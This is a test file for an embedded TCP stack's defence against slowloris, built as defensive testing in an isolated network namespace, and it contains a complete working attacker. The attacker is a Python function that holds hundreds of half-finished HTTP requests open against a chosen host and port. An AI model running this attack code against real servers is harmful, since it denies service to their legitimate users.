# SPDX-License-Identifier: MIT
"""500 slow connections (slowloris) must not deny service (net/tcp_guard.c): the attacker, from
its own address on the namespace's tap, keeps 500 connections to the http image open, each with
a request head that never ends (a header line every few seconds), and opens them again as they
are closed; a normal client, curl from the host's address, must be served at least 9 times in 10
meanwhile. The image has 128 connection blocks: the attacker always wants more than there are,
and the guard gives a new connection the block of the one silent the longest.

Run as a script inside the namespace (python3 test_slowloris.py attack SRC DST PORT CONNS
INTERVAL SECONDS), this file is also the attacker."""
import os
import selectors
import signal
import socket
import subprocess
import sys
import time

HTTP_PORT = 80
CONNECTIONS = 500
TRICKLE_S = 5  # one header line per connection this often: each stays busy, never finishes
ATTACKER_ADDR = "192.168.77.66"


def attack(src, dst, port, conns, interval, seconds):
    """Keeps conns slow requests open from src; prints what it saw."""
    sel = selectors.DefaultSelector()
    opened = closed = 0
    socks = {}

    def open_one():
        nonlocal opened
        s = socket.socket()
        s.setblocking(False)
        s.bind((src, 0))
        s.connect_ex((dst, port))
        socks[s] = {"connected": False, "next": 0.0}
        sel.register(s, selectors.EVENT_WRITE | selectors.EVENT_READ)
        opened += 1

    def drop(s):
        nonlocal closed
        sel.unregister(s)
        s.close()
        del socks[s]
        closed += 1

    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    start = time.monotonic()
    try:
        while time.monotonic() - start < seconds:
            while len(socks) < conns:
                open_one()
            now = time.monotonic()
            for key, events in sel.select(timeout=0.2):
                s, st = key.fileobj, socks[key.fileobj]
                if events & selectors.EVENT_READ:
                    try:
                        data = s.recv(4096)
                    except OSError:
                        data = b""
                    if not data:  # closed or reset by the server: open another
                        drop(s)
                        continue
                if events & selectors.EVENT_WRITE and not st["connected"]:
                    if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                        drop(s)
                        continue
                    st["connected"] = True
                    sel.modify(s, selectors.EVENT_READ)
                    try:
                        s.send(b"GET / HTTP/1.1\r\nHost: mote\r\n")
                    except OSError:
                        drop(s)
                        continue
                    st["next"] = now + interval
            for s, st in list(socks.items()):
                if st["connected"] and now >= st["next"]:
                    st["next"] = now + interval
                    try:
                        s.send(b"X-Slow: 1\r\n")
                    except OSError:
                        drop(s)
    finally:
        busy = sum(1 for st in socks.values() if st["connected"])
        print(f"opened {opened}, closed by the server {closed}, connected now {busy}", flush=True)


if __name__ == "__main__" and len(sys.argv) == 8 and sys.argv[1] == "attack":
    attack(sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6]),
           float(sys.argv[7]))
    sys.exit(0)

# The test itself (pytest imports this file; the script above needs none of this).
import re  # noqa: E402

from netns import GUEST_ADDR, HOST_ADDR, PREFIX, TAP  # noqa: E402
from qemu import image, wait_until  # noqa: E402
from test_synflood import CURL_TIMEOUT_S, SERVED_MIN, TRIES, curl, served_during, status  # noqa: E402

WARMUP_S = 20  # the attacker has all the blocks it can get before the client tries
BLOCKS_TAKEN = 120  # of MEMP_NUM_TCP_PCB (128): the pool is as good as exhausted


def test_http_serves_a_normal_client_during_500_slow_connections(qemu, netns):
    q = qemu(image("http"), append=f"ip={GUEST_ADDR}/{PREFIX} gw={HOST_ADDR}",
             extra=netns.qemu_net(), wrapper=netns.wrapper())
    q.wait_for(r"mote: ready")
    netns.exec("ip", "addr", "add", f"{ATTACKER_ADDR}/{PREFIX}", "dev", TAP)
    assert curl(netns) == "200", f"expected the page before the attack\n{q.tail()}"
    seconds = WARMUP_S + TRIES * (CURL_TIMEOUT_S + 1) + 60
    slow = subprocess.Popen([*netns.wrapper(), sys.executable or "python3", os.path.abspath(__file__),
                             "attack", ATTACKER_ADDR, GUEST_ADDR, str(HTTP_PORT), str(CONNECTIONS),
                             str(TRICKLE_S), str(seconds)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)

    def blocks_taken():
        # The attacker's established connections, as the host sees them: the image has 128.
        out = netns.exec("ss", "-Htn", "state", "established", "src", ATTACKER_ADDR).stdout
        return len(out.splitlines()) >= BLOCKS_TAKEN

    wait_until(blocks_taken, f"the attacker to hold {BLOCKS_TAKEN} connections",
               timeout=WARMUP_S * 6, interval=2)
    codes = served_during(netns, slow)
    served = codes.count("200")
    print(f"slowloris with {CONNECTIONS} connections: normal client served {served} of {len(codes)}: {codes}")
    assert served >= SERVED_MIN, \
        f"expected at least {SERVED_MIN} of {TRIES} requests served, got {codes}\n{q.tail()}"
    page = status(netns)
    m = re.search(r'"idle_evicted": (\d+)', page)
    assert m and int(m.group(1)) > 0, f"expected idle connections evicted and counted:\n{page}"
    q.wait_for(r"tcp: no connection block free: resetting the accepted connection silent the longest")
